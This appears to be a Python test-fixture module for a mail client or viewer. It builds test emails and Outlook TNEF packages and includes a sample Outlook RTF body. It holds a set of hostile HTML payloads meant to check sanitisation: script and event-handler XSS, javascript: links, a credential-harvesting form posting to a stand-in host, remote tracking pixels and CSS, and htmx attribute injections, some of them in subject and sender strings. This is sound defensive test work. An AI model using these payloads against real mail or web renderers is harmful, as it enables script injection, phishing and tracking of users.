"""Small hand-made mails for tests: a builder plus hostile HTML cases of our own."""

from __future__ import annotations

import itertools
import struct
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime, make_msgid

import compressed_rtf

_ids = itertools.count(1)
# Mails built without a date get ever later ones, one second apart (never wrapping), so two
# built in a row are always in that order, as a test reading "the later mail" expects.
_DEFAULT_DATES_FROM = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)

# 1x1 transparent PNG
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def build_message(
    *,
    subject: str = "Hello",
    sender: str = "Carla Diaz <carla@customer.test>",
    to: str = "box@mail.test",
    cc: str | None = None,
    text: str | None = "Hello there.",
    html: str | None = None,
    date: datetime | None = None,
    message_id: str | None = None,
    in_reply_to: str | None = None,
    references: str | None = None,
    attachments: tuple[tuple[str, str, bytes], ...] = (),
    inline_images: tuple[tuple[str, bytes], ...] = (),
    extra_headers: dict[str, str] | None = None,
) -> bytes:
    """Return RFC 822 bytes; attachments are (filename, mime type, bytes), inline images
    (content id, png bytes)."""
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    if cc:
        message["Cc"] = cc
    message["Subject"] = subject
    message["Date"] = format_datetime(date or _DEFAULT_DATES_FROM + timedelta(seconds=next(_ids)))
    message["Message-ID"] = message_id or make_msgid(domain="customer.test")
    if in_reply_to:
        message["In-Reply-To"] = in_reply_to
    if references:
        message["References"] = references
    for name, value in (extra_headers or {}).items():
        message[name] = value
    if text is not None:
        message.set_content(text)
    if html is not None:
        if text is None:
            message.set_content(html, subtype="html")
        else:
            message.add_alternative(html, subtype="html")
    if inline_images:
        html_part = message.get_body(("html",))
        for content_id, data in inline_images:
            html_part.add_related(data, "image", "png", cid=f"<{content_id}>")
    for filename, mime, data in attachments:
        maintype, subtype = mime.split("/", 1)
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return message.as_bytes(policy=SMTP)


# Hostile HTML bodies: none may run script, navigate, or load anything remote.
HOSTILE_HTML = {
    "script": "<p>hi</p><script>alert('script')</script>",
    "event_handler": '<img src="x" onerror="alert(\'onerror\')"><body onload="alert(1)">',
    "javascript_link": "<a href=\"javascript:alert('js-link')\">click me</a>",
    "svg_script": '<svg onload="alert(\'svg\')"><script>alert("svg2")</script></svg>',
    "css_overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;'
        'background:url(http://remote.example/bg.png)">overlay</div>'
    ),
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://remote.example/">x',
    "base_tag": '<base href="http://remote.example/"><a href="/logout">relative</a>',
    "form": (
        '<form action="http://remote.example/steal" method="post"><input name="password">'
        "<button>Login</button></form>"
    ),
    "remote_image": '<img src="http://remote.example/pixel.gif" width="1" height="1">',
    "remote_css": (
        '<link rel="stylesheet" href="http://remote.example/x.css">'
        "<style>@import url(http://remote.example/y.css); body{background:url(http://remote.example/z)}</style>"
    ),
    "iframe": '<iframe src="http://remote.example/"></iframe>',
    "htmx_injection": (
        '<div hx-get="/admin/users" hx-trigger="load">a</div>'
        '<div data-hx-post="/settings/preferences" data-hx-trigger="load">b</div>'
    ),
}

# htmx attribute injection through header-derived text (subject, display name).
HOSTILE_SUBJECT = '<div hx-get="/admin/users" hx-trigger="load">x</div><img src=x onerror=alert(1)>'
HOSTILE_DISPLAY_NAME = '"<svg onload=alert(1)> hx-post=/logout" <evil@customer.test>'


def tnef_package(
    files: list[tuple],
    *,
    body: bytes | None = None,
    html: bytes | None = None,
    rtf: bytes | None = None,
    subject: str | None = None,
    sender: tuple[str, str] | None = None,
    sent: datetime | None = None,
    embedded: list[bytes] = (),
) -> bytes:
    """A minimal Outlook winmail.dat (TNEF) holding `files` ((name, bytes), or with a content
    id: (name, bytes, content id)), and a plain `body` (attBody, in
    the sender's Windows code page), an `html` body (the MAPI property PR_HTML) or an `rtf`
    body (PR_RTF_COMPRESSED, compressed here) when given; `subject`, `sender` (name, address)
    and `sent` as MAPI properties; `embedded` messages (each a tnef_package) attached as
    Outlook attaches an item (PR_ATTACH_METHOD 5, the message in PR_ATTACH_DATA_OBJ)."""

    def attribute(level: int, attribute_id: int, data: bytes) -> bytes:
        header = struct.pack("<BII", level, attribute_id, len(data))
        return header + data + struct.pack("<H", sum(data) & 0xFFFF)

    def counted(data: bytes) -> bytes:  # one value of a variable-length MAPI type
        return struct.pack("<II", 1, len(data)) + data + b"\x00" * (-len(data) % 4)

    def mapi(*props: tuple[int, int, bytes]) -> bytes:  # (type, id, encoded value)
        encoded = b"".join(
            struct.pack("<HH", kind, prop_id) + value for kind, prop_id, value in props
        )
        return struct.pack("<I", len(props)) + encoded

    def unicode(text: str) -> bytes:  # PT_UNICODE
        return counted((text + "\x00").encode("utf-16-le"))

    package = struct.pack("<IH", 0x223E9F78, 0x0101)
    if body is not None:
        package += attribute(1, 0x0002800C, body + b"\x00")  # attBody
    for prop_id, data in ((0x1013, html), (0x1009, rtf and compressed_rtf.compress(rtf))):
        if data is not None:  # attMAPIProps: one PT_BINARY value, padded to 4 bytes
            package += attribute(1, 0x00069003, mapi((0x0102, prop_id, counted(data))))
    props = []
    if subject is not None:
        props.append((0x001F, 0x0037, unicode(subject)))  # PR_SUBJECT
    if sender is not None:
        props.append((0x001F, 0x0C1A, unicode(sender[0])))  # PR_SENDER_NAME
        props.append((0x001F, 0x5D01, unicode(sender[1])))  # PR_SENDER_SMTP_ADDRESS
    if sent is not None:  # PR_CLIENT_SUBMIT_TIME, a FILETIME
        ticks = int((sent - datetime(1601, 1, 1, tzinfo=UTC)).total_seconds()) * 10_000_000
        props.append((0x0040, 0x0039, struct.pack("<Q", ticks)))
    if props:
        package += attribute(1, 0x00069003, mapi(*props))
    for name, data, *content_id in files:
        package += attribute(2, 0x00069002, b"\x01\x00" + b"\x00" * 12)  # a new attachment
        package += attribute(2, 0x00018010, name.encode() + b"\x00")  # its title
        package += attribute(2, 0x0006800F, data)  # its bytes
        if content_id:  # PR_ATTACH_CONTENT_ID: how the body's HTML shows it
            package += attribute(2, 0x00069005, mapi((0x001F, 0x3712, unicode(content_id[0]))))
    for message in embedded:
        package += attribute(2, 0x00069002, b"\x01\x00" + b"\x00" * 12)
        iid_imessage = b"\x07\x03\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
        package += attribute(
            2,
            0x00069005,  # attAttachment: the attachment's MAPI properties
            mapi(
                (0x0003, 0x3705, struct.pack("<I", 5)),  # PR_ATTACH_METHOD: embedded message
                (0x000D, 0x3701, counted(iid_imessage + message)),  # PR_ATTACH_DATA_OBJ
            ),
        )
    return package


# The rich text Outlook 2016 writes for a short HTML mail, the HTML kept inside ([MS-OXRTFEX]),
# shortened: fewer fonts and styles. tests/test_rtf.py says what it reads back as.
OUTLOOK_RTF = rb"""{\rtf1\ansi\ansicpg1252\fromhtml1 \fbidis \deff0{\fonttbl
{\f0\fswiss\fcharset0 Arial;}
{\f1\fmodern Courier New;}
{\f2\fnil\fcharset2 Symbol;}
{\f3\fmodern\fcharset0 Courier New;}
{\f4\fswiss\fcharset204 Calibri;}}
{\colortbl\red0\green0\blue0;\red5\green99\blue193;}
\uc1\pard\plain\deftab360 \f0\fs24
{\*\htmltag19 <html>}
{\*\htmltag34 <head>}
{\*\htmltag1 \par }
{\*\htmltag241 <style>}
{\*\htmltag241 p.MsoNormal \{margin:0cm;font-family:"Calibri",sans-serif;\}}
{\*\htmltag249 </style>}
{\*\htmltag41 </head>}
{\*\htmltag2 \par }
{\*\htmltag50 <body lang="EN-US" link="#0563C1">}\htmlrtf \lang1033 \ltrch\htmlrtf0
{\*\htmltag96 <div class="WordSection1">}\htmlrtf {\htmlrtf0
{\*\htmltag64 <p class="MsoNormal">}\htmlrtf {\htmlrtf0 Dear Zo\'eb,
{\*\htmltag244 <o:p>}
{\*\htmltag252 </o:p>}\htmlrtf \par
}\htmlrtf0
{\*\htmltag72 </p>}
{\*\htmltag64 <p class="MsoNormal">}\htmlrtf {\htmlrtf0 The price is \u8364?120{\*\htmltag148 &nbsp;}\htmlrtf \'a0\htmlrtf0 see 
{\*\htmltag84 <a href="https://quillwort.test/prices?a=1&amp;b=2">}\htmlrtf {\field{\*\fldinst{HYPERLINK "https://quillwort.test/prices?a=1&b=2"}}{\fldrslt\cf1\ul \htmlrtf0 our prices\htmlrtf }\htmlrtf0 \htmlrtf }\htmlrtf0
{\*\htmltag92 </a>}.
{\*\htmltag244 <o:p>}
{\*\htmltag252 </o:p>}\htmlrtf \par
}\htmlrtf0
{\*\htmltag72 </p>}
{\*\htmltag64 <p class="MsoNormal">}\htmlrtf {\htmlrtf0 {\f4 \'cf\'f0\'e8\'e2\'e5\'f2}\htmlrtf \par
}\htmlrtf0
{\*\htmltag72 </p>}
{\*\htmltag104 </div>}\htmlrtf }\htmlrtf0
{\*\htmltag58 </body>}
{\*\htmltag27 </html>}}"""
